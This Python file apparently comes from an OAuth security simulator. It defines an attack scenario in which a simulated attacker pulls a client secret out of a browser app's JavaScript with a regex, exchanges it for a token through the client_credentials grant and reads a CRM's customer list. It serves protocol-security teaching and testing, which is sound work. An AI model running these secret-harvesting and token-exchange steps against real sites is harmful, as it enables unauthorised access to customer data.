"""A client secret in the script of a page is nobody's secret (RFC 6749 §10.1)."""

from __future__ import annotations

import re

from mockserver.client.registration import Registration
from oauthsim.attacks.crafted import member
from oauthsim.attacks.goals import Evidence, reaching
from oauthsim.attacks.registry import attack
from oauthsim.clients import BROWSER_APP, NIGHTLY_REPORT, NIGHTLY_SECRET
from oauthsim.scenarios import Step, Stopped
from oauthsim.scenarios.messages import from_to, request_to
from oauthsim.trace import Trace
from oauthsim.world import ISSUER, World

OF_THE_SHOP = "Ferry & Sons"
"""A customer whom neither Alice nor Mallory has, but only the shop."""


def reads_the_shops_customers(trace: Trace, world: World) -> Evidence | None:
    """A customer of the shop reaches Mallory."""
    for message in reaching(trace, "attacker", "attacker_browser"):
        if OF_THE_SHOP in message.text:
            return Evidence(message.number, f"Mallory reads {OF_THE_SHOP!r} among the customers of the shop")
    return None


@attack(
    "secret-in-the-bundle",
    title="Client secret in a browser app",
    spec="RFC 6749 §10.1",
    catalogue=("ATT-57",),
    goal=reads_the_shops_customers,
    honest="client-credentials",
    given=(
        "client-secret-is-right",
        "client-uses-its-registered-method",
        "client-has-credentials-of-its-own",
    ),
    stopped_by=("secrets-stay-on-the-server",),
    does_not_help=(
        "client-secret-is-not-being-guessed",
        "secret-stays-out-of-the-uri",
        "credentials-travel-over-tls",
        "tokens-are-encrypted-at-rest",
        "access-tokens-name-their-audience",
    ),
    steps=(
        Step("Mallory opens the script of a page, which anybody may", request_to("/app.js")),
        Step(
            "There is a client secret in it: she is the client now",
            from_to("attacker", "authorization_server"),
        ),
        Step("With what she gets she reads the customers of the shop", from_to("attacker", "crm")),
    ),
)
def secret_in_the_bundle(world: World) -> None:
    """A page has the credentials of a service in its script, and whoever reads it is that service."""
    assert world.nightly_report, "its customers are there"
    world.browser_app.report = Registration(NIGHTLY_REPORT, NIGHTLY_SECRET, "", "client_secret_basic")
    script = world.mallory.http.get(f"https://{BROWSER_APP}/app.js").text
    found = re.search(r'"client_id": "(.+?)", "client_secret": "(.+?)"', script)
    if found is None:
        raise Stopped("there is no secret in the script")
    form = {"grant_type": "client_credentials", "scope": "crm.read"}
    answer = world.mallory.http.post(f"{ISSUER}/token", data=form, auth=(found[1], found[2]))
    world.mallory.call("https://crm.example/customers", member(answer, "access_token"))
